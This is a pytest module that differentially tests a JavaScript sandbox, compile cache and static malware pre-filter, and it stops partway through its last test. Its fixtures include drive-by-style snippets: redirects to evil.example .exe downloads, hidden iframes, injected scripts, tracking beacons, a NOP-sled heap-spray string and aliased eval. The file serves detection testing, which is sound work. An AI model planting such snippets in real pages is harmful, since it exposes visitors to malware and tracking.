"""Differential testing of the JS consumers: cache, absint, replay.

A pipeline-scoped :class:`~repro.jsengine.CompileCache` hands one parsed
``Program`` to every script, page, shard thread and consumer (the
sandbox, the staticjs rules pass, the abstract interpreter, the feature
extractor) that reads the same source, which is safe only while none of
them mutates AST nodes.  This harness enforces that invariant: every
program runs once uncached and once on a fresh interpreter replaying the
``Program`` from a cache warmed by an earlier run, and the two runs must
agree on value, thrown error, step count and ``eval`` log.  The static
consumers get the same check — their ``ScriptReport`` and ``JsFeatures``
must not depend on where the ``Program`` came from — and a sandbox run
replaying a ``Program`` the static consumers already walked must equal
a run on a fresh parse.  Programs
come from a seeded, fully deterministic generator covering expressions,
control flow, functions, and the deobfuscation idioms exchange malware
actually uses (``unescape``, ``String.fromCharCode``, ``eval``
re-entry, the repo's own :mod:`repro.malware.obfuscation` layers).

Four more differentials pin the static pre-filter's exactness, which
the sandbox skip rests on: a complete abstract-interpretation summary
(:func:`repro.staticjs.interpret_script`) of a host-free program must
report the interpreter's own steps, ``eval`` log and errors; a complete
summary of a script touching every member of the browser host must
report the effects of a sandbox run of that script; and every page the
pre-filter skips, of a generated web or made of one host case or
generated program, must yield the ``ContentAnalysis`` the sandbox would
have produced.

Any divergence is recorded and the full set is written to
``js_divergences.json`` (CI uploads it as an artifact) before the
assertion fires.  To grow the corpus after a divergence: fix the bug,
add the shrunk program to ``REGRESSION_PROGRAMS`` below, and leave the
generator seed pinned so the original random case keeps replaying too.
"""

from __future__ import annotations

import json
import random
from dataclasses import fields

import pytest

from repro.jsengine import (
    BudgetExceeded,
    CompileCache,
    Interpreter,
    JSException,
    extract_features,
    run_script_in_page,
)
from repro.jsengine.compilecache import parse_reusing
from repro.jsengine.values import UNDEFINED, JSArray, JSFunction, JSObject
from repro.malware.obfuscation import obfuscate, random_layers
from repro.staticjs import analyze_script, interpret_script
from repro.staticjs.absint import MACHINE_STEP_LIMIT

GENERATOR_SEED = 99173  # pinned: the corpus is part of the contract
CASES = 500
DIVERGENCE_ARTIFACT = "js_divergences.json"

BINARY_OPS = ["+", "-", "*", "/", "%", "<", ">", "<=", ">=", "==", "===",
              "!=", "!==", "&", "|", "^", "<<", ">>", ">>>"]
UNARY_OPS = ["!", "-", "+", "~", "typeof ", "void "]
STRING_POOL = ["", "a", "xy", "0x1A", "12.5", "%41%42", "Infinity",
               "abc def", "7", "NaN"]


class ProgramGen:
    """Seeded random ES5-subset program generator (always terminates)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.names = []
        self.fresh = 0

    def new_name(self) -> str:
        self.fresh += 1
        name = "v%d" % self.fresh
        self.names.append(name)
        return name

    def name(self) -> str:
        if not self.names or self.rng.random() < 0.05:
            return self.new_name()  # may read before write: soft UNDEFINED
        return self.rng.choice(self.names)

    def literal(self) -> str:
        roll = self.rng.random()
        if roll < 0.4:
            return str(self.rng.randrange(-20, 100))
        if roll < 0.55:
            return repr(self.rng.randrange(0, 50) + 0.5)
        if roll < 0.8:
            return json.dumps(self.rng.choice(STRING_POOL))
        if roll < 0.9:
            return self.rng.choice(["true", "false", "null"])
        return self.rng.choice(["[1,2,3]", "[]", '{"a": 1, "b": "x"}'])

    def expr(self, depth: int) -> str:
        if depth <= 0:
            return self.literal() if self.rng.random() < 0.7 else self.name()
        roll = self.rng.random()
        if roll < 0.30:
            return "(%s %s %s)" % (self.expr(depth - 1),
                                   self.rng.choice(BINARY_OPS),
                                   self.expr(depth - 1))
        if roll < 0.40:
            return "(%s%s)" % (self.rng.choice(UNARY_OPS), self.expr(depth - 1))
        if roll < 0.48:
            return "(%s ? %s : %s)" % (self.expr(depth - 1),
                                       self.expr(depth - 1),
                                       self.expr(depth - 1))
        if roll < 0.56:
            return "(%s %s %s)" % (self.expr(depth - 1),
                                   self.rng.choice(["&&", "||"]),
                                   self.expr(depth - 1))
        if roll < 0.72:
            return self.builtin_call(depth)
        if roll < 0.80:
            return "[%s, %s]" % (self.expr(depth - 1), self.expr(depth - 1))
        if roll < 0.88:
            return "(%s)[%s]" % (self.expr(depth - 1),
                                 self.rng.randrange(0, 4))
        return self.literal()

    def builtin_call(self, depth: int) -> str:
        kind = self.rng.randrange(8)
        if kind == 0:
            chars = [str(65 + self.rng.randrange(26))
                     for _ in range(self.rng.randrange(1, 6))]
            return "String.fromCharCode(%s)" % ", ".join(chars)
        if kind == 1:
            return 'unescape("%s")' % "".join(
                "%%%02X" % (97 + self.rng.randrange(26))
                for _ in range(self.rng.randrange(1, 5)))
        if kind == 2:
            return "parseInt(%s)" % self.expr(depth - 1)
        if kind == 3:
            return "Math.floor(%s)" % self.expr(depth - 1)
        if kind == 4:
            return '(%s + "").charAt(%d)' % (self.expr(depth - 1),
                                             self.rng.randrange(0, 3))
        if kind == 5:
            return '(%s + "").split("").join("-")' % self.expr(depth - 1)
        if kind == 6:
            return '(%s + "").indexOf("a")' % self.expr(depth - 1)
        return '(%s + "").toUpperCase()' % self.expr(depth - 1)

    def statement(self, depth: int) -> str:
        roll = self.rng.random()
        if roll < 0.30:
            return "var %s = %s;" % (self.new_name(), self.expr(depth))
        if roll < 0.40:
            return "%s = %s;" % (self.name(), self.expr(depth))
        if roll < 0.46:
            return "%s %s= %s;" % (self.name(),
                                   self.rng.choice(["+", "-", "*"]),
                                   self.expr(depth - 1))
        if roll < 0.50:
            return "%s++;" % self.name()
        if roll < 0.58:
            return "if (%s) { %s } else { %s }" % (
                self.expr(depth - 1), self.statement(depth - 1),
                self.statement(depth - 1))
        if roll < 0.64:
            counter = self.new_name()
            return "for (var %s = 0; %s < %d; %s++) { %s }" % (
                counter, counter, self.rng.randrange(0, 5), counter,
                self.statement(depth - 1))
        if roll < 0.68:
            counter = self.new_name()
            return ("var %s = %d; while (%s > 0) { %s--; %s }"
                    % (counter, self.rng.randrange(0, 4), counter, counter,
                       self.statement(depth - 1)))
        if roll < 0.72:
            key = self.new_name()
            acc = self.new_name()
            return ('var %s = ""; for (var %s in {"a": 1, "b": 2}) '
                    "{ %s = %s + %s; }" % (acc, key, acc, acc, key))
        if roll < 0.78:
            fn = "f%d" % self.rng.randrange(1000)
            params = [self.new_name() for _ in range(self.rng.randrange(0, 3))]
            call_args = ", ".join(self.expr(0) for _ in params)
            return ("function %s(%s) { %s return %s; } var %s = %s(%s);"
                    % (fn, ", ".join(params), self.statement(depth - 1),
                       self.expr(depth - 1), self.new_name(), fn, call_args))
        if roll < 0.83:
            caught = self.new_name()
            return ("try { %s throw %s; } catch (%s) { %s }"
                    % (self.statement(depth - 1), self.expr(0), caught,
                       self.statement(depth - 1)))
        if roll < 0.88:
            return ("switch (%s) { case 1: %s break; case 2: %s "
                    "default: %s }" % (self.expr(depth - 1),
                                       self.statement(depth - 1),
                                       self.statement(depth - 1),
                                       self.statement(depth - 1)))
        if roll < 0.94:
            sub = "var %s = %s; %s" % (self.new_name(), self.expr(depth - 1),
                                       self.expr(depth - 1))
            return "%s = eval(%s);" % (self.name(), json.dumps(sub))
        return "%s;" % self.expr(depth)

    def program(self) -> str:
        body = [self.statement(self.rng.randrange(1, 4))
                for _ in range(self.rng.randrange(2, 7))]
        body.append("%s;" % self.expr(2))  # final value under comparison
        return "\n".join(body)


#: shrunk divergences from past fuzz runs; grow this list with every
#: fixed bug so the regression replays forever
REGRESSION_PROGRAMS = [
    "var a = 1; a + 2;",
    'eval(unescape("%76%61%72%20%78%3D%37%3B%78"));',
    "var s = String.fromCharCode(101, 118, 97, 108); s;",
    "var i = 0; for (;;) { i++; if (i > 3) break; } i;",
    "do { var d = 1; } while (false); d;",
    "typeof undeclared;",
    "var o = {a: 1}; delete o.a; o.a;",
    'var t; try { null.x; } catch (e) { t = "" + e; } t;',
    "function f() { return; } f();",
    "var n = 0; n += \"3\"; n;",
]


def canon(value, depth=0):
    """Identity-free canonical form for cross-run comparison."""
    if depth > 4:
        return "<deep>"
    if value is UNDEFINED:
        return "undefined"
    if isinstance(value, bool) or value is None:
        return repr(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, str):
        return repr(value)
    if isinstance(value, JSArray):
        return [canon(v, depth + 1) for v in value.elements]
    if isinstance(value, JSObject) and not isinstance(value, JSFunction):
        return {k: canon(v, depth + 1)
                for k, v in sorted(value.properties.items())}
    if isinstance(value, JSFunction):
        return "<function>"
    return "<%s>" % type(value).__name__


def run_engine(source: str, step_budget: int = 100_000, compile_cache=None):
    """One observation of ``source`` on a fresh interpreter."""
    engine = Interpreter(step_budget=step_budget, rng=random.Random(0),
                         compile_cache=compile_cache)
    outcome = {"error": None, "value": None}
    try:
        outcome["value"] = canon(engine.run(source))
    except JSException as exc:
        outcome["error"] = ["JSException", str(exc.value)
                            if not isinstance(exc.value, JSObject)
                            else canon(exc.value)]
    except BudgetExceeded as exc:
        outcome["error"] = ["BudgetExceeded", str(exc)]
    except Exception as exc:  # parse errors, _Return escapes, ...
        outcome["error"] = [type(exc).__name__, str(exc)]
    outcome["steps"] = engine.steps
    outcome["eval_log"] = list(engine.eval_log)
    outcome["max_eval_depth"] = engine.max_eval_depth
    return outcome


def diff_engines(source: str, step_budget: int = 100_000):
    """Uncached run vs a replay from a cache an earlier run warmed."""
    uncached = run_engine(source, step_budget)
    cache = CompileCache()
    run_engine(source, step_budget, cache)
    replayed = run_engine(source, step_budget, cache)
    if uncached != replayed:
        return {"source": source, "step_budget": step_budget,
                "uncached": uncached, "replayed": replayed}
    return None


def page_observation(html: str, compile_cache=None):
    host = run_script_in_page(html, compile_cache=compile_cache)
    from repro.htmlparse import serialize_children

    log = host.log
    return {
        "navigations": list(log.navigations),
        "popups": list(log.popups),
        "writes": list(log.document_writes),
        "downloads": list(log.download_triggers),
        "beacons": list(log.beacons),
        "cookies": list(log.cookies_set),
        "created": list(log.created_elements),
        "appended": list(log.appended_elements),
        "timeouts": log.timeouts_scheduled,
        "listeners": sorted(log.fingerprinting_events),
        "errors": list(log.errors),
        "requested_scripts": list(host.requested_scripts),
        "steps": host.interpreter.steps,
        "dom": serialize_children(host.document_tree),
    }


PAGE_CASES = [
    '<html><script>window.location = "http://e.example/l.exe";</script></html>',
    '<html><body><script>document.write("<iframe src=\'http://f/\' '
    "width=1 height=1></iframe>\");</script></body></html>",
    '<html><script>window.open("http://pop/"); document.cookie = '
    '"k=v";</script></html>',
    '<html><script>var i = new Image(); i.src = "http://t/p.gif";'
    "</script></html>",
    "<html><script>document.addEventListener(\"mousemove\", "
    "function (e) { document.cookie = \"m=1\"; });</script></html>",
    '<html><body><div id="d">x</div><script>document.getElementById'
    '("d").innerHTML = "<a href=\'http://x/s.exe\'>get</a>";'
    "</script></body></html>",
    "<html><script>setTimeout(function () { window.location = "
    '"http://late/"; }, 10);</script></html>',
    '<html><script>var s = document.createElement("script"); '
    's.src = "http://inj/x.js"; document.body.appendChild(s);'
    "</script></html>",
    "<html><script>broken(</script></html>",
    "<html><script>while (true) {}</script></html>",  # budget trip in-page
]


def _record_and_assert(divergences):
    if divergences:
        with open(DIVERGENCE_ARTIFACT, "w", encoding="utf-8") as handle:
            json.dump(divergences, handle, indent=2, sort_keys=True)
    assert not divergences, (
        "%d cached/uncached divergences (full set in %s); first: %r"
        % (len(divergences), DIVERGENCE_ARTIFACT, divergences[0]))


def test_generated_programs_agree():
    """≥500 seeded programs: identical values/steps/errors/eval logs."""
    rng = random.Random(GENERATOR_SEED)
    divergences = []
    for _ in range(CASES):
        source = ProgramGen(rng).program()
        divergence = diff_engines(source)
        if divergence is not None:
            divergences.append(divergence)
    _record_and_assert(divergences)


def test_regression_programs_agree():
    divergences = []
    for source in REGRESSION_PROGRAMS:
        divergence = diff_engines(source)
        if divergence is not None:
            divergences.append(divergence)
    _record_and_assert(divergences)


#: host-free payloads for the obfuscation layers
HOST_FREE_PAYLOADS = [
    "var x = 1; x = x + 41; x;",
    'var s = "pay" + "load"; s;',
    "var total = 0; for (var i = 0; i < 5; i++) { total += i; } total;",
]


def test_obfuscated_payloads_agree():
    """The repo's own obfuscation layers, stacked at random depths."""
    rng = random.Random(GENERATOR_SEED + 1)
    divergences = []
    for index in range(40):
        payload = HOST_FREE_PAYLOADS[index % len(HOST_FREE_PAYLOADS)]
        source = obfuscate(payload, random_layers(rng, 1 + rng.randrange(3)),
                           rng)
        divergence = diff_engines(source)
        if divergence is not None:
            divergences.append(divergence)
    _record_and_assert(divergences)


def test_step_budget_truncation_agrees():
    """Tiny budgets: both runs must trip at the same step count."""
    rng = random.Random(GENERATOR_SEED + 2)
    sources = [ProgramGen(rng).program() for _ in range(30)]
    sources.append("while (true) { var x = 1; }")
    sources.append("function f() { return f(); } f();")
    divergences = []
    for source in sources:
        for budget in (7, 23, 87, 311):
            divergence = diff_engines(source, step_budget=budget)
            if divergence is not None:
                divergences.append(divergence)
    _record_and_assert(divergences)


def test_page_level_host_effects_agree():
    """Full BrowserHost runs: logs, DOM, errors, steps all match."""
    divergences = []
    for html in PAGE_CASES:
        uncached = page_observation(html)
        cache = CompileCache()
        page_observation(html, cache)
        replayed = page_observation(html, cache)
        if uncached != replayed:
            divergences.append({"html": html, "uncached": uncached,
                                "replayed": replayed})
    _record_and_assert(divergences)


# ----------------------------------------------------------------------
# static consumers on the shared Program
# ----------------------------------------------------------------------
#: AbstractEffects fields that hold sets (their list order is not data)
_EFFECT_SETS = ("global_reads", "global_writes", "doc_handler_events",
                "doc_handler_reads", "element_handler_events",
                "element_handler_reads", "opaque_element_handler_events",
                "decoders_used")

STATIC_CASES = [
    'var u = "http://" + "evil.example/" + "x.exe"; window.location = u;',
    'document.write(unescape("%3Ciframe%20src%3D%22http%3A//f/%22%20'
    'width%3D1%20height%3D1%3E%3C/iframe%3E"));',
    'eval("var p = \'<iframe src=http://g/ width=0>\'; document.write(p);");',
    "setTimeout(\"window.location = 'http://late/'\", 10);",
    "document.addEventListener('mousemove', function (e) { new Image().src = "
    "'http://t/p.gif?x=' + e.clientX; });",
    'if (false) { document.write("<iframe src=http://cloak/>"); } var a = 1;',
    "var shell = '%u9090%u9090%u9090'; var s = unescape(shell);",
    "broken(",
    'var bad = "\\xZZ";',
    "(" * 200 + "1" + ")" * 200,
    "a" + ".b" * 3000 + "();",
]


def static_observation(source, compile_cache=None):
    report = analyze_script(source, compile_cache=compile_cache)
    features = extract_features(source, compile_cache=compile_cache)
    effects = None
    if report.effects is not None:
        effects = report.effects.to_dict()
        for key in _EFFECT_SETS:
            effects[key] = sorted(effects[key])
    return {
        "verdict": report.verdict,
        "findings": [(f.rule, f.severity, f.message, f.evidence)
                     for f in report.findings],
        "capabilities": list(report.capabilities),
        "resolved_payloads": list(report.resolved_payloads),
        "parse_failed": report.parse_failed,
        "node_count": report.node_count,
        "redirect_targets": list(report.redirect_targets),
        "effects": effects,
        "features": dict(vars(features)),
    }


def diff_static(source):
    """Fresh parses vs the consumers reading one warmed, shared Program."""
    fresh = static_observation(source)
    cache = CompileCache()
    # the sandbox warms the entry; as the cache's miss, this run parses
    # afresh, so it is also the fresh-parse sandbox observation
    before = run_engine(source, compile_cache=cache)
    shared = static_observation(source, cache)
    divergence = {}
    if fresh != shared:
        divergence = {"fresh": fresh, "shared": shared}
    try:
        program = cache.compile(source)
    except Exception:  # noqa: BLE001 - a stored compile error is shared too
        program = None
    if program is not None and parse_reusing(source, cache) is not program:
        divergence["shared_program"] = False
    # the sandbox replaying the Program the static consumers walked
    after = run_engine(source, compile_cache=cache)
    if after != before:
        divergence["sandbox_after_static"] = after
    return dict(divergence, source=source) if divergence else None


def test_static_consumers_agree_on_shared_program():
    rng = random.Random(GENERATOR_SEED + 3)
    sources = list(STATIC_CASES) + list(REGRESSION_PROGRAMS)
    sources.extend(ProgramGen(rng).program() for _ in range(60))
    payloads = ['var s = "pay" + "load"; document.write(s);',
                'window.location = "http://" + "x.example/";']
    sources.extend(obfuscate(payloads[i % 2], random_layers(rng, 1 + i % 3), rng)
                   for i in range(20))
    divergences = [d for d in map(diff_static, sources) if d is not None]
    _record_and_assert(divergences)


def test_static_consumers_agree_on_generated_web_scripts():
    from repro import MalwareSlumsStudy, StudyConfig
    from repro.htmlparse import parse, select

    web = MalwareSlumsStudy(StudyConfig(seed=2016, scale=0.005)).generate_web()
    sources = sorted({
        script.text_content()
        for site in web.registry for page in site.pages.values()
        for script in select(parse(page.html), "script")
        if not script.get("src") and script.text_content().strip()})
    assert len(sources) > 50
    divergences = [d for d in map(diff_static, sources) if d is not None]
    _record_and_assert(divergences)


# ----------------------------------------------------------------------
# the abstract machine against the interpreter
# ----------------------------------------------------------------------
def host_free_programs(seed: int):
    """The regressions, ``CASES`` generated programs and 300 layered
    obfuscations of host-free payloads, drawn from ``seed``."""
    rng = random.Random(seed)
    sources = list(REGRESSION_PROGRAMS)
    sources.extend(ProgramGen(rng).program() for _ in range(CASES))
    sources.extend(
        obfuscate(HOST_FREE_PAYLOADS[i % len(HOST_FREE_PAYLOADS)],
                  random_layers(rng, 1 + rng.randrange(3)), rng)
        for i in range(300))
    return sources


def script_phase_observation(source: str, step_budget: int = 500_000):
    """A bare interpreter run, observed as absint's script phase is."""
    engine = Interpreter(step_budget=step_budget)
    errors = []
    try:
        engine.run(source)
    except Exception as exc:  # noqa: BLE001 - recorded as the page host does
        errors.append("%s: %s" % (type(exc).__name__, exc))
    return {"steps": engine.steps, "eval_log": list(engine.eval_log),
            "max_eval_depth": engine.max_eval_depth, "errors": errors}


@pytest.mark.parametrize("seed", [GENERATOR_SEED, GENERATOR_SEED + 7])
def test_complete_absint_summaries_match_the_interpreter(seed):
    """A complete summary's script phase is the interpreter's own run;
    an incomplete one must be a step-budget abort on a program the
    interpreter too runs past the machine's step ceiling."""
    divergences = []
    for source in host_free_programs(seed):
        effects = interpret_script(source)
        if not effects.complete:
            probe = script_phase_observation(source, MACHINE_STEP_LIMIT)
            if (effects.reasons != ("step-budget",)
                    or probe["steps"] <= MACHINE_STEP_LIMIT):
                divergences.append({"source": source, "interpreter": probe,
                                    "reasons": list(effects.reasons)})
            continue
        expected = script_phase_observation(source)
        script = effects.phase("script")
        summary = {"steps": script.steps, "eval_log": list(effects.eval_sources),
                   "max_eval_depth": effects.max_eval_depth,
                   "errors": list(script.errors)}
        if summary != expected:
            divergences.append({"source": source, "absint": summary,
                                "interpreter": expected})
    _record_and_assert(divergences)


#: a navigation through an aliased ``eval``
ALIASED_EVAL = "var e = eval; e(\"location.href='http://evil.example/land'\");"

#: host-touching scripts: at least one per member the browser host
#: installs, on the document and on created elements, with effects in
#: the script, handler and timer phases
HOST_CASES = [
    # location, popups, cookies, beacons
    'window.location = "http://nav.example/a";',
    'location.href = "http://nav.example/b.exe";',
    'location.replace("http://nav.example/c"); location.assign("http://nav.example/d");',
    "location.reload(); document.write(typeof location.toString);",
    'self.location = "http://nav.example/self"; top.location.href = "http://nav.example/top";',
    'var w = open("http://pop.example/1"); document.write(w.closed);',
    'window.open("http://pop.example/2", "_blank");',
    'document.cookie = "a=1"; document.cookie = "b=2"; document.write(document.cookie);',
    'new Image().src = "http://beacon.example/p.gif";',
    'var img = new Image(1, 1); img.src = "http://beacon.example/q.gif"; '
    "document.write(img.src + img.tagName);",
    'var x = new XMLHttpRequest(); x.open("GET", "http://xhr.example/r"); '
    'x.setRequestHeader("a", "b"); x.send(null); '
    "document.write(x.readyState + x.status + x.responseText);",
    # document.write / writeln, with markup and inline and src scripts
    'document.write("<p>a</p>", "<b>b</b>", 3);',
    'document.writeln("<i>line</i>");',
    'document.write("<scr" + "ipt>document.write(\\"inner\\");</scr" + "ipt>");',
    'document.write("<scr" + "ipt src=\\"http://s.example/w.js\\"></scr" + "ipt><p>after</p>");',
    'document.write("<iframe src=\\"http://f.example/\\" width=\\"1\\" height=\\"1\\"></iframe>");',
    # created elements
    'var s = document.createElement("SCRIPT"); s.src = "http://s.example/c.js"; '
    "document.write(s.src + s.tagName);",
    'var s = document.createElement("script"); s.setAttribute("src", "http://s.example/d.js"); '
    "document.body.appendChild(s);",
    'var im = document.createElement("img"); im.src = "http://beacon.example/e.gif"; '
    'document.write(im.getAttribute("src"));',
    'var f = document.createElement("iframe"); f.setAttribute("src", "http://f.example/x"); '
    'f.setAttribute("width", 0); document.write(f.getAttribute("width") + f.width + f.src);',
    'var d = document.createElement("div"); d.innerHTML = "<b>x</b><i>y</i>"; '
    "document.write(d.innerHTML + d.children.length);",
    'var d = document.createElement("div"); d.textContent = "hello"; d.innerText = "there"; '
    "document.write(d.textContent);",
    'var d = document.createElement("div"); d.className = "c1"; d.id = "i1"; d.title = "t"; '
    'document.write(d.className + d.id + d.title + d.getAttribute("class"));',
    'var d = document.createElement("div"); d.style.display = "none"; '
    'd.style.backgroundColor = "red"; document.write(d.style.display + d.style.backgroundColor '
    '+ d.getAttribute("style") + d.style.color);',
    'var d = document.createElement("div"); document.write("" + d + d.style + document + window);',
    # tree edits
    'var p = document.createElement("div"); var a = document.createElement("span"); '
    'var b = document.createElement("em"); p.appendChild(a); p.insertBefore(b, a); '
    'p.appendChild("text"); document.write(p.innerHTML); p.removeChild(a); '
    "document.write(p.innerHTML + p.children.length + (b.parentNode === p) + (a.parentNode === null));",
    'var p = document.createElement("ul"); p.appendChild(document.createElement("li")); '
    'p.appendChild(document.createElement("li")); '
    'document.write(p.getElementsByTagName("li").length + p.firstChild.tagName + p.childNodes.length);',
    'var s = document.createElement("span"); document.body.appendChild(s); '
    's.innerHTML = "<b>in page</b>"; document.write(s.parentNode === document.body);',
    # clicks: href and onclick
    'var a = document.createElement("a"); a.href = "http://click.example/x.exe"; a.click();',
    'var a = document.createElement("a"); a.onclick = function () { '
    'window.open("http://pop.example/click"); }; a.click(); document.write(typeof a.onclick);',
    # listeners on the document and on created elements
    'document.addEventListener("click", function (e) { document.write("clicked " + e.type); });',
    'document.onmousemove = function (e) { new Image().src = "http://m.example/?" + e.type; }; '
    "document.write(typeof document.onmousemove);",
    'document.onload = function () { location.href = "http://nav.example/onload"; };',
    'document.addEventListener("load", function () { '
    'setTimeout("document.cookie = \\"late=1\\"", 5); });',
    'var e = document.createElement("div"); e.addEventListener("click", function () { '
    'document.write("el-click"); }); e.attachEvent("onload", function () { '
    'document.write("el-load"); }); e.onmousemove = function () { new Image().src = "http://m.example/el"; };',
    'var e = document.createElement("button"); e.addEventListener("keydown", function () {}, false); '
    "e.onscroll = function () {};",
    # timers with a function and with a string
    'setTimeout(function () { document.write("t1"); }, 10); setInterval("document.write(\'t2\')", 5);',
    'clearTimeout(setTimeout("var late = 1;", 0)); clearInterval(0); setTimeout(); document.write("ok");',
    # the other globals
    'var d = new Date(); document.write(d.getTime() + " " + d.getFullYear() + " " + d.toString() '
    '+ " " + new Date(5).valueOf());',
    "document.write(navigator.userAgent + navigator.platform + navigator.language "
    '+ navigator.plugins.length + navigator.plugins[0].name + screen.width + "x" + screen.height '
    "+ screen.colorDepth);",
    "window.foo = 5; var bar = 3; document.write(foo + window.foo + window.bar + self.bar "
    "+ (window.window === window)); document.write(typeof window.nothing + parent.foo);",
    'document.title = "New title"; document.write(typeof document.title + document.referrer + "|");',
    'alert("x"); if (confirm("y")) { document.write("yes" + prompt("z")); } console.log("w");',
    "document.write(typeof document.head + typeof document.documentElement "
    "+ typeof document.getElementsByTagName);",
    # errors in the script, handler and timer phases
    "undefinedFn();",
    "var o = null; o.x.y = 1;",
    "document.onclick = function () { missingInHandler(); };",
    'setTimeout(function () { missingInTimer(); }, 1); setTimeout("missingInString()", 1);',
    'document.write("<scr" + "ipt>brokenWritten(</scr" + "ipt>");',
    'document.attachEvent("onclick", function () {});',
    # builtins on hostile arguments return a JS value or throw a JS error
    # (a Python error would end the script, and Math.floor(NaN) would
    # hide the navigation after it); on unknown page values they are
    # summarised
    "var x = Math.floor(parseInt('zz')); location.href = 'http://evil.test/a.exe';",
    "document.write(Math.pow(-8, 1/3) + ' ' + Math.pow(0, -1) + ' ' + Math.sqrt(-1));",
    "document.write(parseInt('0', 1) + ' ' + Math.round(1/0) + String.fromCharCode(65, 'x'));",
    "document.write((5).toString(0));",
    "document.write((5).toString(1));",
    "document.write(typeof Math.floor(location.href.length) + typeof parseInt(location.href, 1));",
    "document.write(typeof location.href.length.toString(2) + typeof location.href.length.toFixed(2));",
    "document.write(location.href.length.toFixed(101));",
    "document.write(typeof [location.href.length, 1].join('-'));",
    "var a = []; a[50000000] = 1;",
    # an index past an unknown string's longest length is undefined
    "document.write(location.href[99999]);",
    # a cyclic array joins as '' and throws in JSON.stringify; a shared
    # one is joined once per conversion until the string bound stops it
    "var a = []; a[0] = a; document.write('x' + a);",
    "var a = []; a[0] = a; document.write(JSON.stringify(a));",
    "var a = [1]; for (var i = 0; i < 40; i++) a = [a, a]; document.write('' + a);",
    # sinks reached through an alias: the rule engine's capability scan
    # reads call paths, so it calls these scripts benign
    ALIASED_EVAL,
    "var e = window['ev' + 'al']; e(\"location.href='http://evil.example/land'\");",
    "var o = window.open; o('http://evil.example/pop');",
]

#: page facts no summary can know: only these host cases may abort
PAGE_FACT_CASES = [
    # a character of the page's URL is a string or undefined
    "if (location.href[0]) location.href = 'http://evil.test/a.exe';",
    "document.write(location.href[0]);",
    'var f = document.createElement("iframe"); f.src = "http://f.example/"; document.body.appendChild(f);',
    'var el = document.getElementById("x"); if (el) { el.innerHTML = "y"; }',
    'document.write("at " + location.pathname);',
    'if (location.protocol == "https:") { new Image().src = "http://b.example/s"; }',
    'var here = "" + location; window.open(here);',
    # an extra argument to an unknown page node's method: the sandbox
    # raises a TypeError whose text names its element class
    'var s = document.createElement("span"); document.body.appendChild(s, 1); '
    'document.write("after");',
    # which child an unknown reference element is decides the order
    'var p = document.createElement("p"); var a = document.createElement("a"); '
    'var b = document.createElement("b"); p.appendChild(a); p.appendChild(b); '
    'p.insertBefore(document.createElement("i"), [a, b][location.href.length % 2]); '
    "document.write(p.innerHTML);",
    # an array holding an unknown number converts to an unknown number
    "if (+[location.href.length] > 5) document.write('long');",
    "var n = [location.href.length]; n++; if (n > 5) document.write('long');",
]
HOST_CASES += PAGE_FACT_CASES

#: reasons a host case may abort with: each names a fact of the unknown
#: page (or URL) that decides the sandbox's effects
HOST_ABORTS = {"opaque-iframe", "get-by-id", "location-string", "abstract-branch",
               "abstract-write", "opaque-arity", "abstract-ref"}

#: BehaviorLog lists a summary's phases concatenate to
_LOG_LISTS = ("navigations", "popups", "beacons", "created_elements",
              "appended_elements", "cookies_set", "errors")


def sandbox_page_observation(source):
    host = run_script_in_page(
        "<html><head></head><body><script>%s</script></body></html>" % source)
    observed = {name: list(getattr(host.log, name)) for name in _LOG_LISTS}
    observed.update(
        document_writes=list(host.log.document_writes),
        listeners=[list(pair) for pair in host.log.listeners],
        timeouts_scheduled=host.log.timeouts_scheduled,
        requested_scripts=list(host.requested_scripts),
        steps=host.interpreter.steps)
    return observed


def summary_page_observation(effects):
    """The phases of a summary, concatenated in lifecycle order."""
    observed = {name: [] for name in _LOG_LISTS}
    observed.update(document_writes=[], listeners=[], timeouts_scheduled=0,
                    requested_scripts=[], steps=0)
    for phase in effects.phases:
        for name in _LOG_LISTS:
            observed[name].extend(getattr(phase, name))
        observed["document_writes"].extend(markup for markup, _attached in phase.document_writes)
        observed["listeners"].extend(list(pair) for pair in phase.listeners)
        observed["timeouts_scheduled"] += phase.timeouts_scheduled
        observed["requested_scripts"].extend(phase.requested_scripts)
        observed["steps"] += phase.steps
    return observed


def test_complete_absint_summaries_match_the_sandbox_host():
    """A complete summary of a host-touching script has the effects of
    the sandbox running it on a page; an incomplete one names a page
    fact it could not know."""
    divergences = []
    complete = 0
    for source in HOST_CASES:
        effects = interpret_script(source)
        if not effects.complete:
            if effects.abort_reason not in HOST_ABORTS:
                divergences.append({"source": source, "reasons": list(effects.reasons)})
            continue
        complete += 1
        expected, summary = sandbox_page_observation(source), summary_page_observation(effects)
        if summary != expected:
            divergences.append({"source": source, "absint": summary, "sandbox": expected})
    _record_and_assert(divergences)
    assert complete >= len(HOST_CASES) - len(PAGE_FACT_CASES)


#: ContentAnalysis fields that only the pre-filter path sets
_PREFILTER_ONLY = ("sandbox_skipped", "static_findings", "static_redirect_targets")


def _analysis_fields(analysis):
    out = {}
    for f in fields(analysis):
        if f.name in _PREFILTER_ONLY:
            continue
        value = getattr(analysis, f.name)
        if f.name == "hidden_iframes":
            value = [vars(frame) for frame in value]
        out[f.name] = value
    return out


@pytest.mark.parametrize("seed", [2016, 2018])
def test_skipped_pages_match_the_sandbox(seed):
    """Each page the pre-filter skips analyzes as if the sandbox ran."""
    from repro import MalwareSlumsStudy, StudyConfig
    from repro.detection.heuristics import analyze_html

    web = MalwareSlumsStudy(StudyConfig(seed=seed, scale=0.005)).generate_web()
    prefilter_cache, sandbox_cache = CompileCache(), CompileCache()
    skipped = 0
    divergences = []
    for site in web.registry:
        for page in site.pages.values():
            on = analyze_html(page.html, compile_cache=prefilter_cache)
            if not on.sandbox_skipped:
                continue
            skipped += 1
            off = analyze_html(page.html, static_prefilter=False,
                               compile_cache=sandbox_cache)
            expected, replayed = _analysis_fields(off), _analysis_fields(on)
            if replayed != expected:
                divergences.append({
                    "seed": seed, "html": page.html,
                    "fields": sorted(k for k in expected
                                     if expected[k] != replayed[k])})
    _record_and_assert(divergences)
    assert skipped > 1000


#: generated host-free programs per seed in the one-script page differential
PAGE_PROGRAMS = 300


def _one_script_page(source):
    return "<html><body><p>x</p><script>%s</script></body></html>" % source


@pytest.mark.parametrize("seed", [7, 8])
def test_skipped_one_script_pages_match_the_sandbox(seed):
    """Each page of one host case or generated program that the
    pre-filter skips analyzes as if the sandbox ran: a benign verdict
    is no reason to skip, so an aliased sink or a script that throws
    still shows."""
    from repro.detection.heuristics import analyze_html

    rng = random.Random(seed)
